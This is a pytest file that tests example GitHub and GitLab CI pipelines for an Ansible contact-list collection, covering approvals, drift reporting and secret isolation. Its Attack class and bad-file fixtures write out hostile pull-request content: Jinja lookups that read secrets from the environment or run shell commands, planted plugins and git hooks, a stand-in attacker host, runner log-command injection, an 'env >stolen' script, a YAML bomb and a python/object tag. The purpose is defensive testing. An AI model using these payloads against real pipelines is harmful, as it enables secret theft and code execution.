# Copyright: (c) 2026, the koreai.contact_center contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""The example pipelines: the steps of every job run in a copy of the example repository, stage by stage."""

from __future__ import annotations

import base64
import itertools
import json
import re
import subprocess
import sys
from collections.abc import Callable, Iterator
from contextlib import ExitStack
from pathlib import Path

import pytest

from ansible_collections.koreai.contact_center.tests.harness.hostile import holds_log_command
from ansible_collections.koreai.contact_center.tests.harness.pipelines import (
    EXAMPLES,
    STAGES,
    TOKEN,
    GitHub,
    GitLab,
    Job,
    Repository,
    Tracker,
    load,
    tracker,
)
from ansible_collections.koreai.contact_center.tests.harness.workflow import sampled
from ansible_collections.koreai.contact_center.tests.simulator import Simulator

MARKER = "<!-- koreai.contact_center: contact lists -->"
INSTALLED = [
    "pip install --require-hashes --requirement requirements.txt",
    "ansible-galaxy collection install --requirements-file requirements.yml",
]
JULY = "Renewal Due - July 2025"


@pytest.fixture
def simulator() -> Iterator[Simulator]:
    with sampled(*STAGES) as simulator:
        yield simulator


@pytest.fixture
def repository(tmp_path: Path, simulator: Simulator) -> Repository:
    return Repository(tmp_path, simulator)


@pytest.fixture
def host() -> Iterator[Tracker]:
    stack = ExitStack()
    yield stack.enter_context(tracker())
    stack.close()


def descriptions(simulator: Simulator) -> dict[str, set[str]]:
    """The descriptions on the streams."""
    return {stream.name: {record["name"] for record in stream.lists.values()} for stream in simulator.streams.values()}


def edited(simulator: Simulator, stage: str) -> None:
    """Somebody changes a list by hand."""
    (stream,) = (stream for stream in simulator.streams.values() if stream.name == stage)
    (id_,) = (id_ for id_, record in stream.lists.items() if record["name"] == JULY)
    stream.edit(id_, description="By hand")


def statuses(jobs: dict[str, Job]) -> dict[str, str]:
    return {name: job.status for name, job in jobs.items() if job.status != "skipped"}


def hold_apart(jobs: dict[str, Job], repository: Repository) -> None:
    """Check that each job got at most the secret of its own stage, and that no job shows one."""
    own = {"KORE_DEV_CLIENT_SECRET": "dev", "KORE_STAGING_CLIENT_SECRET": "staging", "VAULT_PASSWORD": "production"}
    for name, job in jobs.items():
        stage = "dev" if name == "plan-request" else name.rpartition("-")[2]
        if name != "drift":
            assert {own[secret] for secret in job.secrets} <= {stage}, name
    shown = [job.output for job in jobs.values()]
    shown += [path.read_text() for path in repository.artifacts.rglob("*") if path.is_file()]
    clients = [value for name, value in repository.secrets.items() if name != "VAULT_PASSWORD"]
    assert not [text for text in shown for secret in clients if secret in text]
    assert list(repository.temporary.iterdir()) == []


@pytest.mark.thorough
def test_github_plans_a_request_for_dev_and_comments_once(repository: Repository, host: Tracker) -> None:
    host.comment("Another comment", ours=True)
    host.comment(f"{MARKER}\nof somebody else", ours=False)
    repository.request()
    for comments in (3, 3):
        jobs = GitHub(repository, host.url, event="pull_request", approve=lambda _stage: False).run()
        assert statuses(jobs) == {"validate": "success", "plan-request": "success"}, jobs
        assert len(host.comments) == comments
        assert jobs["validate"].secrets == {}
        assert set(jobs["plan-request"].secrets) == {"KORE_DEV_CLIENT_SECRET"}
    assert repository.called() == INSTALLED * 4
    assert [method for method, _path in host.writes] == ["POST", "PATCH"]
    assert host.comments[2]["body"] == repository.report("plan.md")
    assert "in 1 environment:" in host.comments[2]["body"]
    assert {request.stream_id for request in repository.simulator.log} == {_stream(repository.simulator, "dev")}
    hold_apart(jobs, repository)


@pytest.mark.thorough
def test_github_goes_from_stage_to_stage_and_applies_what_was_reviewed(repository: Repository, host: Tracker) -> None:
    approved: list[str] = []

    def approve(stage: str) -> bool:
        # This is what a reviewer sees; what nobody has approved yet does not exist.
        approved.append(stage)
        held = descriptions(repository.simulator)
        assert [name for name in STAGES if any("Winback 2026" in text for text in held[name])] == approved[:-1]
        shown = github.summary.read_text()
        assert shown.count("### Contact lists: plan") == len(approved)
        return True

    github = GitHub(repository, host.url, event="push", approve=approve)
    jobs = github.run()

    assert statuses(jobs) == {f"{what}-{stage}": "success" for stage in STAGES for what in ("plan", "apply")}, jobs
    assert approved == list(STAGES)
    for stage in STAGES:
        planned = json.loads((repository.artifacts / f"plan-{stage}" / "plan.json").read_text())["environments"]
        result = json.loads((repository.artifacts / f"result-{stage}" / "result.json").read_text())["environments"]
        assert list(planned) == list(result) == [stage]
        assert result[stage]["status"] == "applied"
        assert result[stage]["plan"]["digest"] == planned[stage]["digest"]
    hold_apart(jobs, repository)

    # Everything is clean, so that nobody has anything to approve.
    again = GitHub(repository, host.url, event="push", approve=lambda _stage: False).run()
    assert statuses(again) == {f"plan-{stage}": "success" for stage in STAGES}


@pytest.mark.thorough
def test_github_stops_at_a_stage_that_nobody_approves(repository: Repository, host: Tracker) -> None:
    jobs = GitHub(repository, host.url, event="push", approve=lambda stage: stage == "dev").run()

    assert statuses(jobs) == {"plan-dev": "success", "apply-dev": "success", "plan-staging": "success"}
    assert not any(
        request.is_write
        for request in repository.simulator.log
        if request.stream_id != _stream(repository.simulator, "dev")
    )


@pytest.mark.thorough
def test_github_stops_where_a_list_changed_after_the_review(repository: Repository, host: Tracker) -> None:
    def approve(stage: str) -> bool:
        edited(repository.simulator, stage)
        return True

    jobs = GitHub(repository, host.url, event="push", approve=approve).run()

    assert statuses(jobs) == {"plan-dev": "success", "apply-dev": "failure"}
    assert "The reviewed plan lacks actions that are needed now" in jobs["apply-dev"].output
    assert not any(request.is_write for request in repository.simulator.log)


@pytest.mark.thorough
def test_github_tells_of_a_plan_that_was_not_made(repository: Repository, host: Tracker) -> None:
    repository.secrets["KORE_DEV_CLIENT_SECRET"] = ""
    repository.request()
    jobs = GitHub(repository, host.url, event="pull_request", approve=lambda _stage: False).run()

    assert statuses(jobs) == {"validate": "success", "plan-request": "failure"}
    assert "credentials are missing" in host.comments[0]["body"]
    push = GitHub(repository, host.url, event="push", approve=lambda _stage: True).run()
    assert statuses(push) == {"plan-dev": "failure"}


@pytest.mark.thorough
def test_github_keeps_one_issue_on_drift(repository: Repository, host: Tracker) -> None:
    GitHub(repository, host.url, event="push", approve=lambda _stage: True).run()
    edited(repository.simulator, "staging")
    jobs = GitHub(repository, host.url, event="schedule", approve=lambda _stage: False).run()

    found = statuses(jobs)
    assert {name: found[name] for name in ("drift-dev", "drift-staging", "drift-production", "drift-issue")} == {
        "drift-dev": "success",
        "drift-staging": "failure",
        "drift-production": "success",
        "drift-issue": "success",
    }
    (issue,) = host.issues
    assert (issue["title"], issue["labels"]) == ("Contact lists: drift", ["contact-lists-drift"])
    assert "## dev: clean\n" in issue["body"]
    assert "## staging: drift\n" in issue["body"]
    assert "By hand" in issue["body"]
    hold_apart(jobs, repository)


@pytest.mark.parametrize("name", ["GitHub", "GitLab"])
def test_drift_opens_one_issue_or_updates_it_and_closes_it(repository: Repository, host: Tracker, name: str) -> None:
    places = {
        "GitHub": {"GITHUB_REPOSITORY": "owner/repository", "STANDS_FOR_GITHUB": f"{host.url}/", "GH_TOKEN": TOKEN},
        "GitLab": {"CI_API_V4_URL": f"{host.url}/api/v4", "CI_PROJECT_ID": "3", "HOST_TOKEN": TOKEN},
    }

    def tell(**found: str | None) -> None:
        for stage, status in found.items():
            folder = repository.folder / f"drift-{stage}"
            folder.mkdir(exist_ok=True)
            for path in folder.iterdir():
                path.unlink()
            if status:
                (folder / "summary.json").write_text(json.dumps({"status": status}))
                (folder / "plan.md").write_text(f"{MARKER}\n- {status}\n\n<details>ids</details>\n" + "x" * 70_000)
        done = repository.shell("python3 pipeline/tell.py drift dev staging production", **places[name])
        assert done.returncode == 0, done

    host.issue(ours=False, title="Contact lists: drift", labels=["contact-lists-drift"])
    theirs = dict(host.issues[0])
    clean = dict.fromkeys(STAGES, "clean")
    text = "body" if name == "GitHub" else "description"
    tell(**clean)
    assert host.writes == []
    tell(**{**clean, "dev": "drift", "production": None})
    assert [issue["state"] for issue in host.issues[1:]] == ["open"]
    assert "## dev: drift\n\n<!--" in host.issues[1][text]
    assert "## production: error\n\nThere is no plan: see the log of its job." in host.issues[1][text]
    assert "<details>" not in host.issues[1][text]
    assert len(host.issues[1][text]) < 65_000
    tell(**{**clean, "staging": "drift"})
    assert len(host.issues) == 2
    assert "## dev: clean\n" in host.issues[1][text]
    tell(**clean)
    assert [issue["state"] for issue in host.issues[1:]] == ["closed"]
    tell(**{**clean, "staging": "error"})
    assert [issue["state"] for issue in host.issues[1:]] == ["closed", "open"]
    assert host.issues[0] == theirs


@pytest.mark.thorough
def test_gitlab_goes_from_stage_to_stage_and_keeps_one_note_and_one_issue(
    repository: Repository, host: Tracker
) -> None:
    host.comment(f"{MARKER}\nof somebody else", ours=False)
    repository.request()
    requests = GitLab(repository, host.url, branch="request")
    assert requests.run("validate").status == "success"
    jobs = {"plan-request": requests.run("plan-request")}
    jobs["plan-request"] = requests.run("plan-request")
    assert jobs["plan-request"].status == "success", jobs
    assert [method for method, _path in host.writes] == ["POST", "PUT"]
    assert host.comments[1]["body"].startswith(f"{MARKER}\n### Contact lists: plan")

    merged = GitLab(repository, host.url, branch="main")
    for stage in STAGES:
        for what in ("plan", "apply"):
            jobs[f"{what}-{stage}"] = merged.run(f"{what}-{stage}")
            assert jobs[f"{what}-{stage}"].status == "success", jobs[f"{what}-{stage}"]
        assert repository.report("summary.json")["environments"][stage]["status"] == "applied"
    edited(repository.simulator, "production")
    for stage in STAGES:
        jobs[f"drift-{stage}"] = merged.run(f"drift-{stage}")
    jobs["drift-issue"] = merged.run("drift-issue")
    assert jobs["drift-production"].status == "failure"
    assert jobs["drift-issue"].output.splitlines()[-1] == "dev: clean, staging: clean, production: drift"
    assert "By hand" in host.issues[0]["description"]
    hold_apart(jobs, repository)


def test_gitlab_lets_no_stage_begin_before_the_last_one_was_started_by_somebody() -> None:
    jobs = load("gitlab-ci.yml")
    for before, stage in (("dev", "staging"), ("staging", "production")):
        assert jobs[f"plan-{stage}"]["needs"] == [f"apply-{before}"]
    assert [rule["when"] for rule in jobs[".apply"]["rules"]] == ["manual"]
    for stage in STAGES:
        assert jobs[f"apply-{stage}"]["environment"] == f"{stage}/apply"
        assert jobs[f"apply-{stage}"]["needs"] == [f"plan-{stage}"]


def _stream(simulator: Simulator, name: str) -> str:
    return next(stream.stream_id for stream in simulator.streams.values() if stream.name == name)


def test_no_shell_of_the_workflow_holds_an_expression() -> None:
    # A text that others can write, such as a branch's name, would become part of the script.
    workflow = load("github-actions.yml")
    scripts = [part["run"] for job in workflow["jobs"].values() for part in job["steps"] if "run" in part]

    assert len(scripts) > 15
    assert not [script for script in scripts if "${{" in script]
    assert workflow["permissions"] == {"contents": "read"}
    assert "pull_request_target" not in (EXAMPLES / "github-actions.yml").read_text()


@pytest.mark.parametrize(
    ("schema", "path", "more"),
    [
        ("vendor.github-workflows", "github-actions.yml", ()),
        ("vendor.gitlab-ci", "gitlab-ci.yml", ("--data-transform", "gitlab-ci")),
    ],
)
def test_the_pipelines_follow_their_schemas(schema: str, path: str, more: tuple[str, ...]) -> None:
    program = Path(sys.executable).with_name("check-jsonschema")
    command = [program, "--builtin-schema", schema, *more, EXAMPLES / path]

    done = subprocess.run(command, capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stdout + done.stderr


def test_no_secret_lies_open_in_the_example_repository(simulator: Simulator) -> None:
    text = "".join(path.read_text() for path in (EXAMPLES / "repository").rglob("*") if path.is_file())

    assert not re.search("fake-secret", text)
    assert "$ANSIBLE_VAULT;" in text
    assert all(stream.stream_id in text for stream in simulator.streams.values())


class Attack:
    """A request that changes everything it may change, to create TOUCHED or to read the job's environment."""

    def __init__(self, folder: Path) -> None:
        self.touched = folder / "touched"
        self.host = "https://evil.example"

    def __call__(self, folder: Path) -> None:
        touch = f"touch {self.touched}"
        python = f"import os\nos.system({touch!r})\n"
        secret = "{{ lookup('env', 'KORE_STAGING_CLIENT_SECRET') | b64encode }}"
        pipe = f"{{{{ lookup('pipe', '{touch}') }}}}"
        lists = [{"name": name, "description": text, "create": True} for name, text in (("a", secret), ("b", pipe))]
        lists[0]["name"] = "##[add-mask]changes%0A"
        files = {
            "contact_lists.yml": json.dumps({"contact_lists": lists, "environments": {"dev": {"overrides": {}}}}),
            "ansible.cfg": "[defaults]\ncallback_plugins = evil\ncallbacks_enabled = evil\nfilter_plugins = evil\n",
            "evil/evil.py": python,
            "sitecustomize.py": python,
            "inventory.yml": f"#!/bin/sh\n{touch}\n",
            "group_vars/all.yml": f"kore_host: {self.host}\nx: {pipe}\n",
            "group_vars/kore_environments/zz.yml": f"kore_host: {self.host}\nkore_allowed_hosts: [{self.host}]\n",
            "host_vars/dev/zz.yml": f'kore_account_id: "{pipe}"\ncontact_lists_report_dir: "{pipe}"\n',
            "requirements.txt": "evil\n",
            "requirements.yml": "collections: [evil.evil]\n",
            "contact_lists.schema.json": "{}",
            "collections/ansible_collections/koreai/contact_center/plugins/action/kore_contact_lists.py": python,
            "pipeline/run": f"#!/bin/sh\n{touch}\n",
            "pipeline/install": f"#!/bin/sh\n{touch}\n",
            "pipeline/tell.py": python,
            "playbooks/plan.yml": f"- hosts: localhost\n  tasks: [{{shell: {touch}}}]\n",
            "library/kore_contact_lists.py": python,
            ".git-hooks/post-checkout": f"#!/bin/sh\n{touch}\n",
            ".gitattributes": "* filter=evil\n",
        }
        for name, text in files.items():
            path = folder / name
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(text, encoding="utf-8")
        (folder / "inventory.yml").chmod(0o755)


def heard(log: str) -> list[str]:
    """The lines in which GitHub's runner looks for commands."""
    token, found = "", []
    for line in log.splitlines():
        stop = re.fullmatch("::stop-commands::([0-9a-f]{32})", line)
        if token:
            token = "" if line == f"::{token}::" else token
        elif stop:
            token = stop[1]
        else:
            found.append(line)
    return found


def hold_nothing_leaked(repository: Repository, attack: Attack, *jobs: Job) -> None:
    assert not attack.touched.exists()
    artifacts = [path.read_text() for path in repository.artifacts.rglob("*") if path.is_file()]
    assert artifacts
    printed = [job.output for job in jobs]
    for secret in repository.secrets.values():
        for form in (secret, base64.b64encode(secret.encode()).decode(), secret[::-1]):
            assert len(secret) < 16 or not [text for text in (*artifacts, *printed) if form in text]
    assert not [text for text in printed if "##[" in text]
    assert attack.host not in " ".join(artifacts)


def test_github_runs_nothing_of_a_malicious_request(repository: Repository, host: Tracker, tmp_path: Path) -> None:
    attack = Attack(tmp_path)
    repository.request(attack)
    jobs = GitHub(repository, host.url, event="pull_request", approve=lambda _stage: False).run()
    assert statuses(jobs) == {"validate": "success", "plan-request": "success"}, jobs
    assert repository.git("status", "--porcelain", "--untracked-files=no") == "M contact_lists.yml"
    assert "hash=sha256" in (repository.folder / "requirements.txt").read_text()

    plan = repository.report("plan.json")["environments"]
    assert list(plan) == ["dev"]
    wanted = {action["name"]: action["changes"]["description"]["after"] for action in plan["dev"]["actions"]}
    assert wanted["##[add-mask]changes%0A"] == "{{ lookup('env', 'KORE_STAGING_CLIENT_SECRET') | b64encode }}"
    assert "PLAY [" in jobs["plan-request"].output
    assert "PLAY [" not in "".join(heard(jobs["plan-request"].output))
    hold_nothing_leaked(repository, attack, *jobs.values())


def test_gitlab_runs_nothing_of_a_malicious_request(repository: Repository, host: Tracker, tmp_path: Path) -> None:
    attack = Attack(tmp_path)
    repository.request(attack)
    gitlab = GitLab(repository, host.url, branch="request")
    jobs = [gitlab.run("validate"), gitlab.run("plan-request")]
    assert [job.status for job in jobs] == ["success", "success"], jobs
    assert list(repository.report("plan.json")["environments"]) == ["dev"]
    hold_nothing_leaked(repository, attack, *jobs)


@pytest.mark.thorough
def test_gitlab_takes_the_branch_and_not_a_tag_of_its_name(
    repository: Repository, host: Tracker, tmp_path: Path
) -> None:
    attack = Attack(tmp_path)
    repository.request(attack)
    gitlab = GitLab(repository, host.url, branch="request")
    repository.git("tag", "main", "request")
    job = gitlab.run("validate")
    assert not attack.touched.exists()
    assert job.status == "success", job


def test_there_is_no_pipeline_for_what_is_merged_into_another_branch(repository: Repository, host: Tracker) -> None:
    """Somebody who may push a branch may push two, and ask to merge one into the other."""
    assert load("github-actions.yml")[True]["pull_request"] == {"branches": ["main"]}
    gitlab = GitLab(repository, host.url, branch="request")
    request, schedule = {"CI_PIPELINE_SOURCE": "merge_request_event"}, {"CI_PIPELINE_SOURCE": "schedule"}
    assert gitlab.starts(**request, CI_MERGE_REQUEST_TARGET_BRANCH_NAME="main")
    assert not gitlab.starts(**request, CI_MERGE_REQUEST_TARGET_BRANCH_NAME="evil")
    assert gitlab.starts(**schedule, CI_COMMIT_BRANCH="main")
    assert not gitlab.starts(**schedule, CI_COMMIT_BRANCH="evil")
    assert gitlab.starts(CI_PIPELINE_SOURCE="push", CI_COMMIT_BRANCH="main")
    assert not gitlab.starts(CI_PIPELINE_SOURCE="push", CI_COMMIT_BRANCH="evil")


def test_a_fork_is_not_planned_for(repository: Repository, host: Tracker) -> None:
    repository.request()
    github = GitHub(repository, host.url, event="pull_request", approve=lambda _stage: False)
    github.jobs["validate"] = Job("success")
    github.context["github.event.pull_request.head.repo.full_name"] = "fork/repository"
    assert github.run_job("plan-request").status == "skipped"
    gitlab = GitLab(repository, host.url, branch="request")
    request = {"CI_PIPELINE_SOURCE": "merge_request_event", "CI_COMMIT_BRANCH": ""}
    assert gitlab.starts("validate", **request, CI_MERGE_REQUEST_SOURCE_PROJECT_ID="8")
    assert gitlab.starts("plan-request", **request, CI_MERGE_REQUEST_SOURCE_PROJECT_ID="3")
    assert not gitlab.starts("plan-request", **request, CI_MERGE_REQUEST_SOURCE_PROJECT_ID="8")
    for stage in STAGES:
        for what in ("plan", "apply", "drift"):
            assert not gitlab.starts(f"{what}-{stage}", **request, CI_MERGE_REQUEST_SOURCE_PROJECT_ID="3")


@pytest.mark.parametrize("name", ["GitHub", "GitLab"])
@pytest.mark.thorough
def test_a_request_that_fills_the_disk_runs_nothing_of_it(
    repository: Repository, host: Tracker, tmp_path: Path, name: str
) -> None:
    """Where a job cannot leave what was requested, nothing of it tells about the plan either."""
    attack = Attack(tmp_path)
    repository.request(attack)
    repository.fill_the_disk()
    if name == "GitLab":
        gitlab = GitLab(repository, host.url, branch="request")
        found = [gitlab.run("validate").status, gitlab.run("plan-request").status]
    else:
        github = GitHub(repository, host.url, event="pull_request", approve=lambda _stage: False)
        github.jobs["validate"] = Job("success")
        found = [github.run_job("plan-request").status, github.run_job("validate").status]
    assert found == ["failure", "failure"]
    assert not attack.touched.exists()
    assert host.writes == []


@pytest.mark.thorough
def test_a_malicious_request_that_is_merged_without_a_review_meets_one_stage_at_a_time(
    repository: Repository, host: Tracker, tmp_path: Path
) -> None:
    """What is merged runs.

    But the reviewers of the first stage come before all other stages, and no job has two secrets.
    """
    repository.request(lambda folder: (folder / "pipeline" / "run").write_text("#!/bin/sh\nenv >stolen\nexit 0\n"))
    repository.git("branch", "--force", "main", "merge")
    jobs = GitHub(repository, host.url, event="push", approve=lambda _stage: False).run()

    assert "success" not in {job.status for name, job in jobs.items() if name not in ("plan-dev",)}
    assert set(jobs["plan-dev"].secrets) == {"KORE_DEV_CLIENT_SECRET"}
    stolen = (repository.folder / "stolen").read_text()
    assert repository.secrets["KORE_STAGING_CLIENT_SECRET"] not in stolen
    assert "VAULT_PASSWORD" not in stolen


def _symlink(folder: Path) -> None:
    (folder / "contact_lists.yml").unlink()
    # Somebody who followed it would find nothing wrong.
    (folder / "contact_lists.yml").symlink_to(EXAMPLES / "repository" / "contact_lists.yml")


def _bomb(folder: Path) -> None:
    lines = ["a: &a [x, x, x, x, x, x, x, x, x]"]
    lines += [f"{b}: &{b} [{', '.join([f'*{a}'] * 9)}]" for a, b in itertools.pairwise("abcdefghij")]
    (folder / "contact_lists.yml").write_text("\n".join([*lines, "contact_lists: *j", ""]))


BAD_FILES: dict[str, Callable[[Path], object]] = {
    "bomb": _bomb,
    "symlink": _symlink,
    "too large": lambda folder: (folder / "contact_lists.yml").write_text("contact_lists: []\n" + "#" * 1_000_000),
    "missing": lambda folder: (folder / "contact_lists.yml").unlink(),
    "unknown key": lambda folder: (folder / "contact_lists.yml").write_text("contact_lists: []\nkore_host: x\n"),
    "tag": lambda folder: (folder / "contact_lists.yml").write_text(
        "contact_lists: !!python/object/apply:os.system [x]\n"
    ),
    "old form": lambda folder: (folder / "contact_lists.yml").write_text("contact_lists_desired: []\n"),
}


def test_what_is_said_of_a_bad_file_gives_no_commands(repository: Repository, host: Tracker) -> None:
    environments = {"x\n::stop-commands::x\n##[group]": {"idz": {}}}
    text = json.dumps({"contact_lists": [], "environments": environments})
    repository.request(lambda folder: (folder / "contact_lists.yml").write_text(text))
    job = GitHub(repository, host.url, event="pull_request", approve=lambda _stage: False).run_job("validate")
    assert job.status == "failure"
    assert "'idz' was unexpected" in job.output
    assert "\n::stop-commands::x" in job.output
    assert not [line for line in heard(job.output) if holds_log_command(line)]


QUICK = [kind for kind in BAD_FILES if kind != "bomb"]


@pytest.mark.parametrize("kind", [*QUICK, pytest.param("bomb", marks=pytest.mark.thorough)])
def test_a_file_that_is_no_declarations_ends_the_job_before_ansible(
    kind: str, repository: Repository, host: Tracker
) -> None:
    repository.request(BAD_FILES[kind])
    jobs = GitHub(repository, host.url, event="pull_request", approve=lambda _stage: False).run()

    assert statuses(jobs) == {"validate": "failure"}
    assert "PLAY [" not in jobs["validate"].output
    assert "CALLS=" not in jobs["validate"].output


def test_each_environment_of_the_workflow_has_one_stage_and_the_checkouts_keep_no_token() -> None:
    text, jobs = (EXAMPLES / "github-actions.yml").read_text(), load("github-actions.yml")["jobs"]
    assert "{{ secrets." not in json.dumps([jobs["validate"], jobs["drift-issue"]])
    assert all("environment" in job for job in jobs.values() if "secrets." in json.dumps(job))
    assert all("timeout-minutes" in job for job in jobs.values())
    assert text.count("persist-credentials: false") == text.count("actions/checkout@") == len(jobs)
    named = {job["environment"] for job in jobs.values() if "environment" in job}
    assert named == {*STAGES, *(f"{stage}-plan" for stage in STAGES), "${{ matrix.stage }}-plan"}
    assert "kore_allowed_hosts=$ALLOWED_HOST" in (EXAMPLES / "repository/pipeline/run").read_text()
